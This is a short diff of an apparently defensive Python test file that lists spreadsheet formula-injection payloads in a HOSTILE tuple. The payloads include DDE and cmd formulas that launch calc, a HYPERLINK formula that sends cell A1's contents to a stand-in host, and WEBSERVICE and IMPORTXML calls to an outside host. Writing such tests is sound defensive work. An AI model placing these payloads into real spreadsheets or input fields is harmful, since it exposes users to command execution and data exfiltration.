@@ -20,13 +20,13 @@ from planner.output import Written
 from planner.roster.fields import ROSTER_FIELDS
 from planner.vocabulary.audience import Audience
 
-PASSWORD = "correct horse battery staple"
+PASSWORD = "correct horse battery staple"  # noqa: S105  # of files made here
 
 HOSTILE = (
     "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-1-1", "\t=1+1", "\n=1+1",
-    '=HYPERLINK("http://example.org/?x="&A1,"here")', "=DDE(\"cmd\";\"/C calc\";\"a\")",
+    '=HYPERLINK("http://example.org/?x="&A1,"here")', '=DDE("cmd";"/C calc";"a")',
     "＝1+1", "＠SUM(1)", "x;=1+1", "x,=1+1", '=IMPORTXML("http://example.org","//a")',
-    "=WEBSERVICE(\"http://example.org\")", "{=1+1}", "%0A=1+1", "'=1+1", " =1+1", "of:=1+1",
+    '=WEBSERVICE("http://example.org")', "{=1+1}", "%0A=1+1", "'=1+1", " =1+1", "of:=1+1",
 )  # fmt: skip
 
 TEXT_FIELDS = (
